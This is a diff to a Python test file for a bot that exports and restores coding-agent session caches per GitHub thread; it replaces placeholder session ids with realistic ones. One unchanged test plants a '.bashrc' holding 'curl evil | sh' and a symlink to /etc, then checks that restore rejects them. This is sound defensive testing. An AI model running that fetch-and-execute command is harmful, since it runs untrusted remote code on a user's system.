@@ -194,6 +194,10 @@ def test_the_handle_input_is_the_only_place_the_action_names_the_mention():
 
 # ---- one session cache per thread
 
+# ids in each CLI's grammar (a cached id outside it is not restored: tests/action/test_restored_values.py)
+CLAUDE_SESSION = "ab6bb313-2e8a-46dc-a533-79b1b94eca64"
+CODEX_SESSION = "01a226c8-5628-7ce3-97ad-7c0a5240b239"
+
 def _home(agent: str, relative: str, text: str = "x") -> Path:
     path = conversations.home_dir(KEY, agent) / relative
     path.parent.mkdir(parents=True, exist_ok=True)
@@ -231,14 +235,14 @@ def test_a_second_export_replaces_the_first(tmp_path):
 
 def test_a_restored_cache_brings_the_session_back_into_an_empty_data_dir(tmp_path, monkeypatch):
     db = store.connect()
-    conversations.record_turn(db, KEY, "claude", "claude-session-1", fresh=True)
+    conversations.record_turn(db, KEY, "claude", CLAUDE_SESSION, fresh=True)
     _home("claude", ".claude/projects/-workspace/claude-session-1.jsonl", "turn one")
     folder = tmp_path / "session"
     action_session.export(db, KEY, folder)
     monkeypatch.setenv("BOT_DATA_DIR", str(tmp_path / "next-run"))
     fresh = store.connect()
     assert action_session.restore(fresh, KEY, folder) == 1
-    assert conversations.session(fresh, KEY, "claude").session_id == "claude-session-1"
+    assert conversations.session(fresh, KEY, "claude").session_id == CLAUDE_SESSION
     restored = config.data_dir() / "homes" / conversations.slug(KEY) / "claude" / ".claude" / "projects"
     assert (restored / "-workspace" / "claude-session-1.jsonl").read_text() == "turn one"
 
@@ -251,7 +255,7 @@ def test_a_cache_of_another_thread_or_planted_files_is_not_taken(tmp_path, monke
     (planted / ".bashrc").write_text("curl evil | sh")
     (planted / "link").symlink_to("/etc")
     (folder / "sessions.json").write_text(json.dumps({"conversation": KEY, "sessions": [
-        {"agent": "codex", "session_id": "s", "created_at": 1, "last_used_at": 1, "turns": 1},
+        {"agent": "codex", "session_id": CODEX_SESSION, "created_at": 1, "last_used_at": 1, "turns": 1},
         {"agent": "not-an-agent", "session_id": "s", "created_at": 1, "last_used_at": 1, "turns": 1}]}))
     db = store.connect()
     assert action_session.restore(db, "Codertocat/Hello-World#9", folder) == 0
@@ -276,7 +280,7 @@ def test_the_threads_model_spend_follows_it_so_a_thread_budget_counts_every_turn
 
 def test_status_in_a_new_workflow_run_counts_the_threads_earlier_turns(github, runner, tmp_path, monkeypatch):
     db = store.connect()
-    conversations.record_turn(db, KEY, "codex", "s1", fresh=True)
+    conversations.record_turn(db, KEY, "codex", CODEX_SESSION, fresh=True)
     Ledger(db).add("run-1", Scope(conversation=KEY, requester="21031067"), 4321, 0.5)
     folder = tmp_path / "session"
     action_session.export(db, KEY, folder)
